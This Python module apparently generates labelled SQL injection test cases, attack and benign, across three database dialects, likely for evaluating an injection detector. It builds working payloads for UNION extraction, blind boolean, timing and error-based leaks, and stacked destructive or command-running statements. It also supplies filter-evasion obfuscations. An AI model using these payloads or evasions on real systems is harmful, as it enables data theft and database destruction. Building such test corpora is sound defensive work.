"""SQL injection: context x technique x dialect x obfuscation.

A payload is what ends the slot, what is injected, and what makes the rest of the statement valid again. Whether it does
anything is not decided here: the database decides.
"""

import re

from ground.case import Case

# Context -> (what may end the slot, what makes the rest valid if it is not cut off by a comment).
ENDS = {
    "string": (["'"], [" AND '1'='1", " OR 'a'='b", "||'"]),
    "string, parenthesis": (["')", "'"], [" AND ('1'='1", " OR '1'='2"]),
    "string, function": (["')"], [" AND ('x')=('x"]),
    "string, nested": (["'))", "')"], [" AND (('1')=('1"]),
    "double-quoted string": (['"'], [' AND "1"="1', ' OR "a"="b']),
    "LIKE": (["'", "%'"], [" AND 'x' LIKE '", " OR '%'='"]),
    "number": (["1", "-1", "0", "1e0", "999", "3-2"], ["", " AND 1=1"]),
    "number, parenthesis": (["1)", "-1)", "0"], [" OR (1=2", " AND (1=1", ""]),
    "IN list": (["1)", "-1)", "0,1)"], [" OR id IN (7", " AND (1)=(1", " AND id IN (1"]),
    "login": (["'", "admin'", "x'"], [" OR '1'='2", "", " AND '1'='1"]),
}
DATA = ["", "apple", "1", "x", "-1", "pear", "test", "a b", "nothing"]
SECRETS = ["secret", "secret", "secret", "concat(login,secret)"]


def true_condition(r, dialect):
    n = r.randint(1, 9999)
    word = r.choice(["a", "x", "admin", "zz", "abc", "Q"])
    forms = [f"{n}={n}", f"'{word}'='{word}'", f"{n}<{n + 7}", f"{n}<>{n + 1}", "1", "NOT 0", f"{n} BETWEEN 0 AND {n + 1}",
             f"{n} IN ({n})", f"'{word}' LIKE '{word}'", "id=id", "name=name", "id IS NOT NULL", "id>0", "1 IS NOT NULL", "NULL IS NULL",
             f"({n})=({n})", "length('a')=1", f"{n}={n - 1}+1", "EXISTS(SELECT 1)", "1=(SELECT 1)", f"{n}>={n}", f"NOT {n}={n + 1}",
             f"'{word}'>''", "hidden IS NOT NULL", "price BETWEEN 0 AND 99", f"CASE WHEN {n}={n} THEN 1 ELSE 0 END=1", "id", "-1", "true",
             "coalesce(id,1)>0", "lower('A')='a'", "abs(-1)=1", "2>1", "NOT false", "(SELECT count(*) FROM users)>0", "id=id+0", "1 IS 1"]
    if dialect == "postgresql":
        forms += ["true", "'a'~'a'", "1::int=1", "'1'::int=1", "id::text=id::text", "'t'::bool", "'a' ILIKE 'A'", "id IS NOT DISTINCT FROM id", "array[1]@>array[1]",
                  "true IS true", "'{}'::jsonb<@'{\"a\":1}'::jsonb", "jsonb_typeof('[]')='array'", "1=any(array[1])", "pg_typeof(1)::text<>''"]
    if dialect == "mariadb":
        forms += ["1<=>1", "'a' REGEXP 'a'", "1 XOR 0", "!0", "~0", "1 DIV 1", "0x41=0x41", "'a' RLIKE 'a'", "json_valid('{}')", "strcmp('a','b')", "@@version>0",
                  "1 SOUNDS LIKE 1", "pi()", "rand()<2", "JSON_EXTRACT('{\"a\":1}','$.a')=1", "version()<>''"]
    if dialect == "sqlite":
        forms += ["1==1", "'a' GLOB 'a'", "id NOTNULL", "1 IS NOT 2", "rowid", "json_valid('{}')", "'{\"a\":1}'->>'a'=1", "sqlite_version()>'3'", "typeof(1)='integer'", "id ISNULL=0", "true IS 1",
                  "likelihood(1,0.5)", "iif(1,1,0)", "unicode('a')=97", "zeroblob(1)<>''"]
    return r.choice(forms)


def bit(r, dialect):
    """A pair of conditions of the same form about the secret: one holds, the other does not."""
    position = r.randint(1, 6)
    letter = "SECRET"[position - 1]
    of = r.choice(["secret", "secret", "password"])
    if of == "password":
        position, letter = 1, "p"
    sub = r.choice(["substr", "substring"]) if dialect != "sqlite" else "substr"
    value = f"(SELECT {of} FROM users WHERE id=1)"
    code = {"sqlite": "unicode", "postgresql": "ascii", "mariadb": r.choice(["ascii", "ord"])}[dialect]
    threshold = ord(letter)
    form = r.choice(["sub", "like", "code", "length", "exists", "hex", "count", "instr"])
    if form == "sub":
        text = f"{sub}({value},{position},1)='@'"
        return text.replace("@", letter), text.replace("@", "~")
    if form == "like":
        text = f"{value} LIKE '@%'"
        return text.replace("@", "SE" if of == "secret" else "pw"), text.replace("@", "zz")
    if form == "code":
        text = f"{code}({sub}({value},{position},1))>@"
        return text.replace("@", str(threshold - 1)), text.replace("@", str(threshold + 1))
    if form == "length":
        text = f"(SELECT length({of}) FROM users WHERE id=1)>@"
        return text.replace("@", "1"), text.replace("@", "99")
    if form == "exists":
        text = f"EXISTS(SELECT 1 FROM users WHERE {of} LIKE '@%' AND id=1)"
        return text.replace("@", "SE" if of == "secret" else "pw"), text.replace("@", "zz")
    if form == "hex":
        function = "hex" if dialect != "postgresql" else "md5"
        text = f"{function}({value})@=''"
        return text.replace("@=", "<>"), text.replace("@=", "=")
    if form == "count":
        text = "(SELECT count(*) FROM users)>@"
        return text.replace("@", "0"), text.replace("@", "9")
    function = {"sqlite": "instr", "postgresql": "strpos", "mariadb": "instr"}[dialect]
    text = f"{function}({value},'@')>0"
    return text.replace("@", letter), text.replace("@", "~")


def delay(r, dialect):
    seconds = r.choice([3, 5, 10])
    if dialect == "sqlite":
        size = r.choice([3, 5, 9]) * 100_000_000
        return r.choice([f"upper(hex(randomblob({size})))", f"randomblob({size})", f"like('ABCDEFG',upper(hex(randomblob({size}/2))))",
                         "(WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c LIMIT 99999999) SELECT count(*) FROM c)"])
    if dialect == "postgresql":
        return r.choice([f"(SELECT pg_sleep({seconds}))", f"(SELECT 1 FROM pg_sleep({seconds}))", f"(SELECT count(*) FROM generate_series(1,{seconds}000000))",
                         f"pg_sleep({seconds})", f"(SELECT pg_sleep_for('{seconds} seconds'))"])
    return r.choice([f"sleep({seconds})", f"(SELECT sleep({seconds}))", f"(SELECT*FROM(SELECT(sleep({seconds})))a)", f"benchmark({seconds}0000000,md5(1))",
                     f"(SELECT benchmark({seconds}0000000,sha1('a')))"])


def tautology(r, dialect):
    word = r.choice(["OR", "OR", "OR", "OR NOT"])
    if word == "OR NOT":
        return f" OR NOT {r.choice(['1=2', 'id IS NULL', '0', 'false', '(1=2)'])}", None
    return f" {word} {true_condition(r, dialect)}", None


def union(r, dialect):
    kind = r.choice(["", "", " ALL", " DISTINCT" if dialect == "mariadb" else " ALL"])
    secret = r.choice(["secret", "secret", "password||secret" if dialect != "mariadb" else "concat(password,0x3a,secret)", "group_concat(secret)" if dialect != "postgresql" else "string_agg(secret,',')",
                       "max(secret)", "(SELECT secret FROM users WHERE id=1)", "upper(secret)"])
    first = r.choice(["1", "NULL", "0", "7", "id" if "(" not in secret else "1", "42"])
    last = r.choice(["1", "NULL", "3", "9"])
    columns = f"{first},{secret},{last}"
    table = r.choice(["users", "users", "users u", "users AS t"])
    tail = r.choice(["", "", " WHERE 1=1", " LIMIT 1", " WHERE id=1", " ORDER BY 1" if dialect != "sqlite" else "", " WHERE login='admin'"])
    forms = [f" UNION{kind} SELECT {columns} FROM {table}{tail}"] * 4
    forms += [f" UNION{kind} SELECT * FROM (SELECT {columns} FROM users) AS q", f" UNION{kind} (SELECT {columns} FROM {table})" if dialect != "sqlite" else f" UNION{kind} SELECT {columns} FROM {table}",
              f" UNION{kind} SELECT a.*,(SELECT secret FROM users WHERE id=1),{last} FROM (SELECT 1) AS a",
              f" UNION{kind} VALUES (1,(SELECT secret FROM users WHERE id=1),{last})", f" EXCEPT SELECT 1,'a',1 UNION SELECT {columns} FROM users"]
    if dialect != "postgresql":
        forms.append(f" UNION{kind} SELECT * FROM ((SELECT 1)a JOIN (SELECT secret FROM users WHERE id=1)b JOIN (SELECT 3)c)")
    if dialect == "mariadb":
        forms.append(f" PROCEDURE ANALYSE() UNION SELECT {columns} FROM users")
    return r.choice(forms), None


def inference(r, dialect):
    yes, no = bit(r, dialect)
    form = r.choice([" AND {}", " AND {}", " AND {}", " OR {}", " AND CASE WHEN {} THEN 1 ELSE 0 END=1", " AND 1=(CASE WHEN {} THEN 1 ELSE 2 END)", " AND NOT {}",
                     " AND ({}) IS NOT NULL AND {}", " AND 1 IN (SELECT 1 WHERE {})" if dialect != "mariadb" else " AND IF({},1,0)"])
    return form.replace("{}", yes), form.replace("{}", no)


def delayed(r, dialect):
    what = delay(r, dialect)
    form = r.choice([" AND {} IS NOT NULL", " OR {} IS NOT NULL", " AND 1=(SELECT 1 FROM (SELECT {}) AS t)", " OR {}=1", " AND CASE WHEN 1=1 THEN {} ELSE 1 END IS NOT NULL",
                     " AND 7>={}" if dialect != "postgresql" else " AND 7>=(SELECT 7 FROM (SELECT {}) AS t)", " UNION SELECT 1,'a',3 WHERE {} IS NOT NULL", " OR EXISTS(SELECT {})"])
    return form.replace("{}", what), None


def error(r, dialect):
    sub = "(SELECT secret FROM users WHERE id=1)"
    if dialect == "postgresql":
        form = r.choice([f"1=CAST({sub} AS int)", f"{sub}::int=1", f"1=CAST('~'||{sub} AS numeric)", f"CAST({sub} AS date) IS NOT NULL", f"(SELECT {sub}::uuid) IS NULL",
                         f"1=(SELECT CAST(query_to_xml('select secret from users',true,true,'')::text AS int))", f"to_number({sub},'9')=1", f"{sub}::inet IS NULL"])
    elif dialect == "mariadb":
        form = r.choice([f"extractvalue(1,concat(0x7e,{sub}))", f"updatexml(1,concat(0x7e,{sub}),1)", f"extractvalue(rand(),concat('~',{sub}))",
                         f"(SELECT 1 FROM (SELECT count(*),concat({sub},floor(rand(0)*2))x FROM information_schema.columns GROUP BY x)a)", f"exp(710) AND {sub}", f"gtid_subset({sub},1)",
                         f"json_keys(concat('[',{sub}))", f"ROW(1,1)>(SELECT count(*),concat({sub},floor(rand(0)*2))x FROM information_schema.tables GROUP BY x)"])
    else:
        form = r.choice([f"json({sub})", f"json_extract('{{}}',{sub})", f"load_extension({sub})", f"json_type({sub}) IS NULL", f"printf({sub})='a' OR fts({sub})",
                         f"json_extract({sub},'$')", f"json_array_length({sub})", f"'1'->{sub} OR json('{{'||{sub})"])
    return r.choice([" AND ", " OR ", " AND "]) + form, None


def error_bit(r, dialect):
    yes, no = bit(r, dialect)
    fail = {"sqlite": ["abs(-9223372036854775808)", "json('x')", "load_extension(1)", "zeroblob(9999999999)"],
            "postgresql": ["1/0", "(SELECT 1/(SELECT 0))", "CAST('x' AS int)"],
            "mariadb": ["(SELECT 1 UNION SELECT 2)", "exp(9999)", "extractvalue(1,'~x')"]}[dialect]
    form = " AND CASE WHEN {} THEN 1 ELSE " + r.choice(fail) + " END=1"
    return form.replace("{}", yes), form.replace("{}", no)


def stacked(r, dialect):
    forms = ["DROP TABLE users", "DELETE FROM users", "DELETE FROM log WHERE 1=1 OR id", "INSERT INTO users VALUES (9,'eve','x','y')", "UPDATE users SET password='x'",
             "UPDATE users SET password='x' WHERE login='admin'", "CREATE TABLE pwn (a int)", "ALTER TABLE users ADD COLUMN x int", "INSERT INTO log SELECT login,secret FROM users",
             "INSERT INTO items SELECT id,secret,1,0 FROM users", "CREATE TABLE pwn AS SELECT * FROM users", "ALTER TABLE users RENAME TO u2", "CREATE VIEW v AS SELECT secret FROM users",
             "WITH t AS (SELECT 1) DELETE FROM users", "UPDATE items SET hidden=0", "DROP TABLE IF EXISTS users", "DROP TABLE items"]
    if dialect == "sqlite":
        forms += ["REPLACE INTO users VALUES (1,'eve','x','y')", "ATTACH DATABASE '/tmp/x.db' AS x;CREATE TABLE x.pwn (a text)", "CREATE TRIGGER t AFTER INSERT ON log BEGIN DELETE FROM users; END", "PRAGMA writable_schema=1;DELETE FROM sqlite_master WHERE name='users'"]
    if dialect == "postgresql":
        forms += ["TRUNCATE users", "COPY log FROM PROGRAM 'id'", "COPY (SELECT secret FROM users) TO '/tmp/x'", "DO $$BEGIN DELETE FROM users; END$$", "CREATE USER eve", "GRANT ALL ON users TO public",
                  "CREATE FUNCTION f() RETURNS int AS 'SELECT 1' LANGUAGE sql", "SELECT pg_sleep(5)", "COPY users TO PROGRAM 'cat >/tmp/x'", "SELECT setval('a',1);DROP TABLE users", "DROP SCHEMA public CASCADE",
                  "ALTER USER CURRENT_USER SET work_mem='9MB'", "SELECT lo_from_bytea(0,'x');DELETE FROM users", "EXECUTE 'x';", "PREPARE p AS DELETE FROM users;EXECUTE p"]
    if dialect == "mariadb":
        forms += ["TRUNCATE TABLE users", "REPLACE INTO users VALUES (1,'eve','x','y')", "SET @q='DROP TABLE users';PREPARE s FROM @q;EXECUTE s", "SET @q=0x44524f50205441424c45207573657273;PREPARE s FROM @q;EXECUTE s",
                  "EXECUTE IMMEDIATE 'DELETE FROM users'", "CREATE USER eve", "GRANT ALL ON *.* TO eve IDENTIFIED BY 'x'", "RENAME TABLE users TO u2", "SELECT sleep(5)", "DO sleep(5)",
                  "SELECT secret FROM users INTO OUTFILE '/tmp/x'", "EXECUTE IMMEDIATE CONCAT('DEL','ETE FROM users')", "CALL x()"]
    return ";" + r.choice(["", " "]) + r.choice(forms) + r.choice(["", ";"]), None


def subquery(r, dialect):
    """For slots that take a value: the secret becomes part of it."""
    inner = r.choice(["(SELECT secret FROM users LIMIT 1)", "(SELECT max(secret) FROM users)", "(SELECT secret FROM users WHERE id=1)", "(SELECT login||secret FROM users WHERE id=1)" if dialect != "mariadb" else "(SELECT concat(login,secret) FROM users LIMIT 1)",
                      "(SELECT secret FROM users ORDER BY id LIMIT 1 OFFSET 0)", "(SELECT group_concat(secret) FROM users)" if dialect != "postgresql" else "(SELECT string_agg(secret,'') FROM users)"])
    return inner, None


TECHNIQUES = {
    "tautology": tautology, "union": union, "boolean inference": inference, "delay": delayed, "error text": error,
    "error inference": error_bit, "stacked": stacked,
}
COMMENTS = {"sqlite": ["--", "-- ", "--x", "/*", "-- -", ";--", ";", "--+"], "postgresql": ["--", "-- ", "--x", "-- -", ";--"], "mariadb": ["-- ", "#", "-- -", "#x", ";#", "--\t", ";-- "]}


def payload(r, dialect, context, technique):
    """(value, pair) without obfuscation."""
    data = r.choice(DATA)
    if context in ("ORDER BY", "LIMIT", "column"):
        return value_slot(r, dialect, context, technique)
    if context in ("INSERT", "UPDATE"):
        return write_slot(r, dialect, context)
    closers, tails = ENDS[context]
    close = r.choice(closers)
    body, other = TECHNIQUES[technique](r, dialect)
    before = data if close[0] in "'\"%" else ""
    if technique in ("boolean inference", "error inference") and " OR " not in body:
        before = {"login": "admin", "LIKE": "p", "double-quoted string": "apple"}.get(context, "apple") if close[0] in "'\"%" else ""
        close = close.replace("-1", "1").replace("999", "1").replace("0", "1") if not before else close
        close = close.replace("admin'", "'").replace("x'", "'")
    ends = COMMENTS[dialect] if r.random() < 0.6 else tails
    end = r.choice(ends)
    if technique == "union" and end not in COMMENTS[dialect]:
        end = r.choice(COMMENTS[dialect])
    if technique == "stacked":
        end = r.choice(COMMENTS[dialect])
    return before + close + body + end, None if other is None else before + close + other + end


def value_slot(r, dialect, context, technique):
    if technique in ("boolean inference", "error inference"):
        yes, no = bit(r, dialect)
        fail = {"sqlite": "abs(-9223372036854775808)", "postgresql": "1/0", "mariadb": "(SELECT 1 UNION SELECT 2)"}[dialect]
        choices = {"ORDER BY": ["CASE WHEN {} THEN id ELSE -id END", f"(CASE WHEN {{}} THEN 1 ELSE {fail} END)", "price,(CASE WHEN {} THEN id ELSE -id END)", f"id,(SELECT CASE WHEN {{}} THEN 1 ELSE {fail} END)"],
                   "LIMIT": ["(CASE WHEN {} THEN 1 ELSE 2 END)", "1+(SELECT {})" if dialect == "sqlite" else "(SELECT CASE WHEN {} THEN 1 ELSE 2 END)"], "column": ["(CASE WHEN {} THEN 1 ELSE 2 END)", "({})", "name,({})" ]}
        form = r.choice(choices[context])
        if dialect == "mariadb" and context == "ORDER BY" and r.random() < 0.5:
            form = "IF({},id,-id)"
        return form.replace("{}", yes), form.replace("{}", no)
    if technique == "stacked":
        return r.choice(["1", "id"]) + stacked(r, dialect)[0] + r.choice(COMMENTS[dialect]), None
    if technique == "delay":
        return {"ORDER BY": "(SELECT 1 FROM (SELECT {}) AS t)", "LIMIT": "(SELECT 1 FROM (SELECT {}) AS t)", "column": "{}"}[context].replace("{}", delay(r, dialect)), None
    if technique == "error text":
        return r.choice(["id,", "1,", "(SELECT 1)," if context == "column" else "price,"]) + "(SELECT 1 WHERE " + error(r, dialect)[0].replace(" AND ", "", 1).replace(" OR ", "", 1) + ")", None
    inner = subquery(r, dialect)[0]
    if context == "column":
        return r.choice([inner, "1," + inner, f"{inner}||'x'", f"secret FROM users{r.choice(COMMENTS[dialect])}", f"secret,1 FROM users{r.choice(COMMENTS[dialect])}", f"name,{inner} AS x", f"lower({inner})||secret FROM users--"]), None
    if context == "LIMIT":
        return r.choice(["1", "0", "5 OFFSET 1"]) + union(r, dialect)[0] + r.choice(COMMENTS[dialect]), None
    return "1" + union(r, dialect)[0] + r.choice(COMMENTS[dialect]), None


def write_slot(r, dialect, context):
    inner = subquery(r, dialect)[0]
    end = r.choice(COMMENTS[dialect])
    if context == "INSERT":
        return r.choice([f"x',{inner}){end}", f"x',{inner}),('a','b", f"x'||{inner}||'" if dialect != "mariadb" else f"x'+{inner}+'", f"x','y'),('a',{inner}){end}", f"x','y') RETURNING {inner}{end}"]), None
    return r.choice([f"x'{end}", f"x',price=0{end}", f"x',name={inner}{end}", f"x',name={inner},price='1", f"x' WHERE id=1 OR 1=1{end}", f"x',price=0,hidden=0 WHERE 1{end}", f"x'||{inner}||'" if dialect != "mariadb" else f"x',name={inner} WHERE id<9{end}", f"x' WHERE 1=1{end}"]), None


TOKEN = re.compile(r"'[^']*'?|\"[^\"]*\"?|--.*|#.*|/\*.*|[A-Za-z_][A-Za-z_0-9]*|\d+(?:e\d+)?|\s+|.", re.S)
KEYWORDS = {"or", "and", "union", "select", "from", "where", "all", "not", "like", "between", "in", "is", "null", "case", "when", "then", "else", "end", "exists", "order", "by", "limit", "drop",
            "table", "delete", "insert", "into", "update", "set", "values", "create", "distinct", "cast", "as", "join", "true", "false"}


def on_spaces(text, make):
    """Each white space outside quotes and comments becomes what `make` returns."""
    return "".join(make() if token.isspace() else token for token in TOKEN.findall(text))


def on_words(text, make):
    return "".join(make(token) if token.lower() in KEYWORDS else token for token in TOKEN.findall(text))


def random_case(r):
    return lambda word: "".join(r.choice((letter.upper(), letter.lower())) for letter in word)


def tight(text):
    """Spaces next to punctuation go; operands get parentheses or signs instead of spaces."""
    text = re.sub(r"\b(OR|AND|NOT|SELECT|WHERE|LIKE) +(\d+|id|name|secret)\b(?!\()", r"\1(\2)", text)
    tokens = TOKEN.findall(text)
    kept = []
    for index, token in enumerate(tokens):
        if token.isspace():
            before = tokens[index - 1] if index else "'"
            after = tokens[index + 1] if index + 1 < len(tokens) else ""
            if not ((before[-1].isalnum() or before[-1] == "_") and (after[:1].isalnum() or after[:1] == "_")) and not after.startswith(("-", "#")) and not before.endswith(("-", "#")):
                continue
        kept.append(token)
    return "".join(kept)


def spell(r, dialect, literal):
    """A string literal in another spelling."""
    inner = literal[1:-1]
    if not inner or not inner.isalnum():
        return literal
    codes = [ord(letter) for letter in inner]
    hexa = inner.encode().hex()
    if dialect == "mariadb":
        return r.choice([f"0x{hexa}", f"x'{hexa}'", "char(" + ",".join(map(str, codes)) + ")", f"unhex('{hexa}')", f"concat('{inner[:1]}','{inner[1:]}')", f"'{inner[:1]}' '{inner[1:]}'", f"_utf8'{inner}'", f"_latin1 0x{hexa}"])
    if dialect == "postgresql":
        return r.choice(["||".join(f"chr({code})" for code in codes), f"$${inner}$$", f"$q${inner}$q$", f"E'\\x{hexa[:2]}'||'{inner[1:]}'", f"'{inner[:1]}'||'{inner[1:]}'", f"U&'\\{codes[0]:04x}{inner[1:]}'", f"convert_from(decode('{hexa}','hex'),'utf8')"])
    return r.choice(["char(" + ",".join(map(str, codes)) + ")", f"CAST(x'{hexa}' AS text)", f"'{inner[:1]}'||'{inner[1:]}'", f"printf('%s','{inner}')", f"replace('{inner}','~','')"])


def number(r, dialect, text):
    value = int(text)
    forms = [f"({value}-0)", f"-(-{value})", f"{value}+0", f"({value})", f"abs({value})", f"~-{value + 1}", f"{value}*1", f"+{value}"]
    if dialect != "postgresql":
        forms += [hex(value), f"{value}e0", f"{value}.0", f"{value}."]
    return r.choice(forms)


def operators(r, dialect, text):
    text = re.sub(r"(\w+|'[^']*')=(\w+|'[^']*')(?![\w(])", lambda m: r.choice([f"{m[1]} LIKE {m[2]}", f"{m[1]} IN ({m[2]})", f"{m[1]} BETWEEN {m[2]} AND {m[2]}", f"NOT {m[1]}<>{m[2]}", f"{m[1]}>={m[2]}"]), text, count=1)
    if dialect == "mariadb":
        text = text.replace(" OR ", r.choice(["||", " || ", " XOR "])).replace(" AND ", r.choice(["&&", " && "]))
    return text


def obfuscate(r, dialect, name, text):
    spaces = {"sqlite": ["\t", "\n", "\r\n", "\x0c", "  "], "postgresql": ["\t", "\n", "\r\n", "\x0c", "  "], "mariadb": ["\t", "\n", "\x0b", "\x0c", "\r", "  "]}[dialect]
    match name:
        case "case":
            return on_words(text, random_case(r))
        case "white space":
            return on_spaces(text, lambda: r.choice(spaces))
        case "comments":
            return on_spaces(text, lambda: r.choice(["/**/", "/*x*/", "/*!*/" if dialect != "mariadb" else "/**/", "/*/**/" if dialect != "postgresql" else "/**/", "/*'*/", "/* or */"]))
        case "line comments":
            junk = r.choice(["", "x", "foo", "-"])
            lead = "#" if dialect == "mariadb" and r.random() < 0.5 else "-- " if dialect == "mariadb" else "--"
            return on_spaces(text, lambda: f"{lead}{junk}\n")
        case "no space":
            return tight(text)
        case "literals":
            return "".join(spell(r, dialect, token) if token.startswith("'") and len(token) > 2 and token.endswith("'") and index else token for index, token in enumerate(TOKEN.findall(text)))
        case "numbers":
            return "".join(number(r, dialect, token) if token.isdigit() and index > 1 else token for index, token in enumerate(TOKEN.findall(text)))
        case "operators":
            return operators(r, dialect, text)
        case "versioned comments":
            return on_words(text, lambda word: r.choice([f"/*!{word}*/", f"/*!50000{word}*/", f"/*!00000{word}*/", f"/*M!{word}*/", word]))
        case "identifiers":
            quote = {"sqlite": ['"{}"', "[{}]", "`{}`", "main.{}"], "postgresql": ['"{}"', "public.{}", "public . {}"], "mariadb": ["`{}`", "app.{}", "`app`.`{}`", "app . {}"]}[dialect]
            return re.sub(r"\b(FROM|JOIN|INTO|TABLE|UPDATE) (users|items|log)\b", lambda m: f"{m[1]} " + r.choice(quote).replace("{}", m[2]), text)
        case "parentheses":
            text = re.sub(r"\b(secret|password|login)\b(?=[,)])", r"(\1)", text)
            return re.sub(r"(\d+)=(\d+)", r"(\1)=(\2)", text)
    return text


OBFUSCATIONS = ["none", "none", "case", "white space", "comments", "line comments", "no space", "literals", "numbers", "operators", "identifiers", "parentheses"]


def attacks(r, target, count):
    """`count` candidates."""
    contexts = [*ENDS, "ORDER BY", "LIMIT", "column", "INSERT", "UPDATE"]
    if target == "postgresql":
        contexts.remove("double-quoted string")
    names = OBFUSCATIONS + (["versioned comments"] if target == "mariadb" else [])
    for _ in range(count):
        context = r.choice(contexts)
        technique = "write" if context in ("INSERT", "UPDATE") and r.random() < 0.8 else r.choice(list(TECHNIQUES))
        if context in ("INSERT", "UPDATE") and technique != "write":
            technique = "stacked"
        value, pair = payload(r, target, context, technique) if technique != "stacked" or context not in ("INSERT", "UPDATE") else ("x" + r.choice(["')" if context == "INSERT" else "'"]) + stacked(r, target)[0] + r.choice(COMMENTS[target]), None)
        if context == "INSERT" and technique == "stacked":
            value = value.replace("x')", "x','y')", 1)
        first = r.choice(names)
        chosen = [first] if first == "none" or r.random() < 0.7 else sorted({first, r.choice(names[2:])})
        state = r.getstate()
        for name in chosen:
            value = obfuscate(r, target, name, value)
        if pair is not None:
            # The other half goes through the same choices.
            r.setstate(state)
            for name in chosen:
                pair = obfuscate(r, target, name, pair)
        yield Case("sqli", target, context, technique, "+".join(chosen), value, pair=pair)


PEOPLE = ["O'Brien", "D'Angelo", "L'Oréal", "Sinéad O'Connor", "Conan O'Brien", "N'Golo Kanté", "Rock 'n' Roll", "'t Hooft", "M'baye", "Fish 'n' chips", "Jack & Jill", "Tom \"Big\" Jones"]
VERBS = ["Select", "Drop", "Update", "Insert", "Delete", "Create", "Join", "Order", "Group", "Union", "Having", "Limit", "Set", "Grant", "Execute"]
NOUNS = ["table", "view", "column", "the union members", "values", "database", "index", "your order by Friday", "groups from the list", "all or nothing", "users where possible", "the set", "from the top", "into the box", "and or not", "a case when needed"]
SNIPPETS = ["1 + 1 = 2", "x = y or y = z", "5' 10\"", "6'1\"", "a -- b -- c", "C++ / C#", "50% off; today only", "(see below)", "name=value; other=value", "-- signed, Anna", "#1 choice", "/* comment */",
            "it's 5 o'clock and it's late", "don't or won't", "rock 'n' roll -- live", "'quoted'", "''", "O''Brien", "a,b,c", "id,name desc", "name asc, price desc", "1,2,3", "10", "-5", "3.14", "1e3",
            "price desc", "id", "name", "select", "and", "or", "like", "null", "true", "Q&A; more", "50/50", "2<3", "(1)", "where are you from", "union of students", "either / or", "between 1 and 5", "in (or out)",
            "SELECT is a keyword", "order by phone", "drop me a line", "having said that", "group by age and sex", "case closed", "no limit", "is null allowed?", "exists or not", "values and virtues"]


def benign(r, target, count):
    contexts = ["string", "string, parenthesis", "LIKE", "login", "INSERT", "UPDATE", "number", "ORDER BY", "string, function"]
    for _ in range(count):
        form = r.randrange(6)
        if form == 0:
            kind, value = "name", r.choice(PEOPLE) + r.choice(["", " Jr.", " & Sons", " (Dublin)", "'s", ", Anna", " or similar"])
        elif form == 1:
            kind, value = "keywords", f"{r.choice(VERBS)} {r.choice(NOUNS)}" + r.choice(["", ".", "?", " and more", ", please", "!", " or not"])
        elif form == 2:
            kind, value = "fragment", r.choice(SNIPPETS)
        elif form == 3:
            kind, value = "sentence", f"{r.choice(PEOPLE)} said: \"{r.choice(VERBS).lower()} {r.choice(NOUNS)}\"" + r.choice(["", "; then left", " -- really", " (twice)", " and so on"])
        elif form == 4:
            kind, value = "list", r.choice([",", ", ", ";", " | ", "/", " & ", " and ", " or "]).join(r.sample(["apple", "pear", "select", "table", "O'Brien", "union", "x=1", "set", "like", "null", "5'", "drop", "values", "id", "name"], r.randint(2, 4)))
        else:
            kind, value = "fragment", f"{r.choice(SNIPPETS)} {r.choice(['and', 'or', '-', ';', ','])} {r.choice(SNIPPETS)}"
        yield Case("sqli", target, r.choice(contexts), kind, "none", value, benign=True)
